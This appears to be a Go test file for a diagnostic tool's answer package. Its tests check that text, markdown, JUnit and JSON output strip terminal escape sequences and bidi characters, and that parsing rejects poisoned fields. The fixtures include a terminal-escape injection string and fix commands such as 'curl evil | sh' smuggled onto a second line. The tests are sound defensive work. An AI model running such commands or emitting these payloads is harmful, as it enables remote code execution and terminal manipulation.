package answer

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"unicode"

	"whylet.dev/whylet/why/prose"
)

// evil is what a node that turned may send in each text.
const evil = "a\x1b]0;PWNED\x07\x1b[2J\u009b31mb\u202ec\u200b\rd"

// poisoned is an answer with evil in all its texts.
func poisoned() Answer {
	a := Answer{
		Symptoms: []Symptom{{ID: "s"}},
		Verdicts: []Verdict{{
			Symptom: "s", Chain: []Link{{Evidence: map[string]any{"a": "", "b": []any{"", map[string]any{"c": ""}}}}}, Contributing: []Note{{}}, RuledOut: []Note{{}},
			Fixes: []Fix{{}, {}}, LastWords: []string{""}, Hops: []Hop{{Chain: []Link{{}}}}, TakesDown: []Hop{{}}, InCommon: []Common{{}}, Possible: []Cause{""},
		}},
		Journal:  Coverage{Gaps: []Gap{{}}},
		Warnings: []Complaint{{Fixes: []Fix{{}}}},
	}
	rewrite(reflect.ValueOf(&a).Elem(), func(s string) string { return s + evil })
	return a
}

func shownBad(text string) bool {
	return strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && r != '\t' && !unicode.IsPrint(r) })
}

// Nothing of an answer that is written in any way has what a terminal or a page would obey.
func TestNothingEvilIsShown(t *testing.T) {
	a := poisoned()
	junit, err := JUnit([]Answer{a})
	if err != nil {
		t.Fatal(err)
	}
	var read Answer
	text, err := json.Marshal(a)
	if err == nil {
		err = json.Unmarshal(text, &read)
	}
	if err != nil {
		t.Fatal(err)
	}
	again, err := json.Marshal(read)
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"text": a.Text(Style{}), "wide": a.Text(Style{Wide: true}), "overview": Overview([]Answer{a}, Style{}), "markdown": Markdown([]Answer{a}), "junit": junit, "JSON": string(again),
	} {
		if !strings.Contains(text, "PWNED") || shownBad(text) || strings.Contains(text, `\u001b`) {
			t.Errorf("%s: %q", name, text)
		}
	}
	a = Answer{Symptoms: []Symptom{{ID: "s"}}, Verdicts: []Verdict{{Symptom: "s", Fixes: []Fix{{Text: "look", Command: "curl evil|sh\nSECOND"}}}}}
	if text := a.Text(Style{}); strings.Contains(text, "\nSECOND") || !strings.Contains(text, "sh SECOND") {
		t.Errorf("a command of two lines: %q", text)
	}
}

// Who sends such texts is no node; what a pod logged may have them, and loses them.
func TestParse(t *testing.T) {
	whole := Answer{Symptoms: []Symptom{{ID: "s", Text: "it\tends"}}, Verdicts: []Verdict{{Symptom: "s", Text: "é", LastWords: []string{evil}}}}
	parse := func(a Answer) (Answer, error) {
		text, err := json.Marshal(a)
		if err != nil {
			t.Fatal(err)
		}
		return Parse(text)
	}
	if a, err := parse(whole); err != nil || shownBad(a.Verdicts[0].LastWords[0]) || a.Symptoms[0].Text != "it\tends" {
		t.Errorf("%v %+v", err, a.Verdicts)
	}
	for name, spoil := range map[string]func(*Answer, *Verdict){
		"a symptom":               func(a *Answer, _ *Verdict) { a.Symptoms[0].Text = evil },
		"a text":                  func(_ *Answer, v *Verdict) { v.Text = evil },
		"a fix":                   func(_ *Answer, v *Verdict) { v.Fixes = []Fix{{Text: evil}} },
		"a command":               func(_ *Answer, v *Verdict) { v.Fixes = []Fix{{Command: evil}} },
		"a command of more lines": func(_ *Answer, v *Verdict) { v.Fixes = []Fix{{Command: "kubectl get pods\ncurl evil | sh"}} },
		"a hop":                   func(_ *Answer, v *Verdict) { v.Hops = []Hop{{Text: evil}} },
		"a note":                  func(_ *Answer, v *Verdict) { v.RuledOut = []Note{{Text: evil}} },
		"a link":                  func(_ *Answer, v *Verdict) { v.Chain = []Link{{Text: evil}} },
	} {
		v := whole.Verdicts[0]
		a := Answer{Symptoms: []Symptom{whole.Symptoms[0]}}
		spoil(&a, &v)
		a.Verdicts = []Verdict{v}
		if _, err := parse(a); err == nil {
			t.Errorf("%s is taken", name)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(`{"symptoms":[{"text":"x"}],"verdicts":[{"fixes":[{"command":"a\nb"}],"lastWords":["\u001b[2J"],"chain":[{"evidence":{"a":["\u202e"]}}]}]}`))
	f.Fuzz(func(t *testing.T, text []byte) {
		a, err := Parse(text)
		if err != nil {
			return
		}
		rewrite(reflect.ValueOf(&a).Elem(), func(s string) string {
			if prose.Shown(s) != s {
				t.Errorf("%q is left in %q", s, text)
			}
			return s
		})
		if shownBad(a.Text(Style{Wide: true})) || shownBad(Markdown([]Answer{a})) || shownBad(Overview([]Answer{a}, Style{})) {
			t.Errorf("%q", text)
		}
	})
}
